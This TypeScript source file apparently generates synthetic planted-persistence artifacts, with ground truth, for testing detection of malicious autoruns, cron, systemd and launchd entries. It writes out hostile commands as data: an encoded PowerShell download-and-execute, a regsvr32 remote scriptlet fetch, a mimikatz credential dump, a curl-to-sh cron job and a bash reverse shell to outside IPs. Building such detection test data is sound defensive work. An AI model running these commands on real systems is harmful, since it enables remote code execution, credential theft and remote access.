import type { AutorunsEntry } from './autoruns-format';
import { mulberry32, shuffled } from './prng';
import type { Role } from './windows-vendor';
import { DEFENDER_SCAN_TASK, HIJACK_TARGET_TASK } from './windows-stock-extra';

/**
 * Planted persistence with ground truth, modelled on public write-ups (ATT&CK T1053.005/.003/.006, T1543.001,
 * T1036 masquerading). Once planted an item stays until the end of the window, as persistence does.
 */

export type PlantedSource = 'autoruns' | 'cron' | 'systemd' | 'launchd';
export type HostOs = 'windows' | 'linux' | 'macos';

export interface PlantedItem {
  /** Unique per host; items of one campaign share `group` (the lateral burst plants one item per host). */
  id: string;
  group: string;
  host: string;
  /** Snapshot day (YYYY-MM-DD) the item first appears in, and its index in the window. */
  day: string;
  dayIndex: number;
  description: string;
  /** The job identity as the parser reports it: task path, crontab file label, timer unit, launchd label. */
  entryName: string;
  source: PlantedSource;
  technique: string;
}

interface PlantedDef {
  group: string;
  os: HostOs;
  roles?: Role[];
  /** Where in the window it appears, as a fraction of the days after the first. */
  at: number;
  source: PlantedSource;
  technique: string;
  description: string;
  entryName: string;
  /** Hosts that receive it (the burst); default 1. */
  count?: (candidates: number) => number;
}

export const HOMOGLYPH_TASK = '\\Microsoft\\Windows\\Defrag\\ScheduledDefr\u0430g'; // Cyrillic "а"
export const LOOKALIKE_TASK = '\\GoogleUpdateTaskMachineUA';
export const BURST_TASK = '\\Microsoft\\Windows\\WDI\\SrvSetup';
export const MIMIKATZ_TASK = '\\SystemHealthMonitor';
export const LOLBIN_TASK = '\\OneDrive Sync Helper';
export const USER_TIMER = 'dbus-session-update.timer';
export const LAUNCH_AGENT = 'com.apple.updates.helper';

export const PLANTED_DEFS: readonly PlantedDef[] = [
  { group: 'uo-hijack', os: 'windows', roles: ['workstation'], at: 0.35, source: 'autoruns', technique: 'T1053.005', entryName: HIJACK_TARGET_TASK, description: 'Microsoft UpdateOrchestrator task path kept, command replaced by hidden encoded PowerShell' },
  { group: 'google-lookalike', os: 'windows', roles: ['workstation'], at: 0.5, source: 'autoruns', technique: 'T1036.004', entryName: LOOKALIKE_TASK, description: 'Google updater lookalike task (no install GUID) running an unsigned binary from C:\\Users\\Public' },
  { group: 'mimikatz-task', os: 'windows', roles: ['server', 'workstation'], at: 0.6, source: 'autoruns', technique: 'T1003.001', entryName: MIMIKATZ_TASK, description: 'Credential dumper (mimikatz sekurlsa::logonpasswords) run by a task every 5 minutes from ProgramData' },
  { group: 'homoglyph-task', os: 'windows', roles: ['workstation'], at: 0.7, source: 'autoruns', technique: 'T1036.004', entryName: HOMOGLYPH_TASK, description: 'Task name with a Cyrillic homoglyph imitating ScheduledDefrag, rundll32 loading a DLL from ProgramData' },
  { group: 'lolbin-regsvr32', os: 'windows', roles: ['workstation'], at: 0.45, source: 'autoruns', technique: 'T1218.010', entryName: LOLBIN_TASK, description: 'regsvr32 "Squiblydoo" task fetching a remote scriptlet' },
  { group: 'defender-scan-disabled', os: 'windows', roles: ['workstation'], at: 0.8, source: 'autoruns', technique: 'T1562.001', entryName: DEFENDER_SCAN_TASK, description: 'Windows Defender Scheduled Scan task disabled on one host' },
  { group: 'lateral-burst', os: 'windows', roles: ['workstation', 'server'], at: 0.9, source: 'autoruns', technique: 'T1053.005', entryName: BURST_TASK, description: 'Same new task under a Microsoft path, unsigned binary in C:\\Windows\\Temp, created on many hosts within one hour (lateral movement)', count: (n) => Math.min(15, Math.max(3, Math.floor(n / 4))) },
  { group: 'cron-curl-sh', os: 'linux', at: 0.4, source: 'cron', technique: 'T1053.003', entryName: 'crontab:root', description: 'Root crontab downloads and pipes a script to sh every minute' },
  { group: 'cron-reboot-revshell', os: 'linux', roles: ['web'], at: 0.55, source: 'cron', technique: 'T1053.003', entryName: 'crontab:www-data', description: '@reboot bash reverse shell in the www-data crontab' },
  { group: 'systemd-user-timer', os: 'linux', at: 0.65, source: 'systemd', technique: 'T1053.006', entryName: USER_TIMER, description: 'User-level systemd timer running a hidden script from ~/.cache every 10 minutes' },
  { group: 'launchd-tmp-agent', os: 'macos', at: 0.5, source: 'launchd', technique: 'T1543.001', entryName: LAUNCH_AGENT, description: 'Launch agent with RunAtLoad and KeepAlive running a binary from /tmp, Apple-like label' },
];

export interface PlacementHost {
  name: string;
  os: HostOs;
  role: Role;
}

/** Choose hosts and days for every planted item; items whose OS is absent from the fleet are skipped. */
export function placePlanted(hosts: readonly PlacementHost[], days: readonly string[], seed: number): PlantedItem[] {
  const rng = mulberry32(seed ^ 0x5eed);
  const used = new Set<string>();
  const out: PlantedItem[] = [];
  for (const def of PLANTED_DEFS) {
    const eligible = hosts.filter((h) => h.os === def.os && (!def.roles || def.roles.includes(h.role)));
    const pool = shuffled(eligible, rng);
    // Prefer hosts no other item used, so each planted host tells one story.
    const ordered = [...pool.filter((h) => !used.has(h.name)), ...pool.filter((h) => used.has(h.name))];
    const n = Math.min(ordered.length, def.count ? def.count(hosts.filter((h) => h.os === def.os).length) : 1);
    const dayIndex = days.length <= 1 ? 0 : Math.min(days.length - 1, 1 + Math.floor(def.at * (days.length - 1)));
    ordered.slice(0, n).forEach((h, i) => {
      used.add(h.name);
      const id = n > 1 ? `${def.group}-${String(i + 1).padStart(2, '0')}` : def.group;
      const { count: _c, os: _o, roles: _r, at: _a, ...rest } = def;
      out.push({ ...rest, id, host: h.name, day: days[dayIndex]!, dayIndex });
    });
  }
  return out;
}

const PS = 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe';
const MSW = '(Verified) Microsoft Windows';

/** `IEX (New-Object Net.WebClient).DownloadString(...)` as UTF-16LE base64, the way `-enc` payloads look. */
const ENCODED = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://185.141.27.9/u.ps1')", 'utf16le').toString('base64');

function task(entry: string, e: Partial<AutorunsEntry> & Pick<AutorunsEntry, 'imagePath' | 'launch'>): AutorunsEntry {
  return { category: 'Tasks', location: 'Task Scheduler', entry, enabled: true, description: '', signer: '', company: '', version: '', ...e };
}

/** New Windows rows a planted group adds (hijack and disabled scan modify stock rows instead). */
export function plantedWindowsEntries(group: string): AutorunsEntry[] {
  switch (group) {
    case 'google-lookalike':
      return [task(LOOKALIKE_TASK, { imagePath: 'c:\\users\\public\\googleupdate.exe', launch: '"C:\\Users\\Public\\GoogleUpdate.exe" /ua /installsource scheduler', description: 'Google Installer', company: 'Google LLC', version: '1.3.36.352', hashKey: 'planted-google' })];
    case 'mimikatz-task':
      return [task(MIMIKATZ_TASK, { imagePath: 'c:\\programdata\\svc\\mscache.exe', launch: '"C:\\ProgramData\\svc\\mscache.exe" "privilege::debug" "sekurlsa::logonpasswords" "exit"', description: 'mimikatz for Windows', company: 'gentilkiwi (Benjamin DELPY)', version: '2.2.0.0', hashKey: 'planted-mimikatz' })];
    case 'homoglyph-task':
      return [task(HOMOGLYPH_TASK, { imagePath: 'c:\\programdata\\microsoft\\defrag.dll', launch: '"%windir%\\system32\\rundll32.exe" C:\\ProgramData\\Microsoft\\defrag.dll,Start', hashKey: 'planted-homoglyph' })];
    case 'lolbin-regsvr32':
      return [task(LOLBIN_TASK, { imagePath: 'c:\\windows\\system32\\regsvr32.exe', launch: '"C:\\Windows\\System32\\regsvr32.exe" /s /n /u /i:http://files.sync-cdn.net/od.sct scrobj.dll', description: 'Microsoft(C) Register Server', signer: MSW, company: 'Microsoft Corporation', version: '10.0.22621.1' })];
    case 'lateral-burst':
      return [task(BURST_TASK, { imagePath: 'c:\\windows\\temp\\svcupd.exe', launch: '"C:\\Windows\\Temp\\svcupd.exe" -k netsvc', hashKey: 'planted-burst' })];
    default:
      return [];
  }
}

/** The hijacked UpdateOrchestrator row: same task path, PowerShell (itself Microsoft-signed) with a hidden encoded payload. */
export function hijackedRow(stock: AutorunsEntry): AutorunsEntry {
  return { ...stock, description: 'Windows PowerShell', imagePath: PS, launch: `"%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -NonI -w hidden -enc ${ENCODED}`, hashKey: undefined };
}

export const PLANTED_CRON: Record<string, { user: string; line: string }> = {
  'cron-curl-sh': { user: 'root', line: '* * * * * curl -fsSL http://45.9.148.99/s.sh | sh > /dev/null 2>&1' },
  'cron-reboot-revshell': { user: 'www-data', line: "@reboot /bin/bash -c 'bash -i >& /dev/tcp/185.220.101.47/4444 0>&1'" },
};
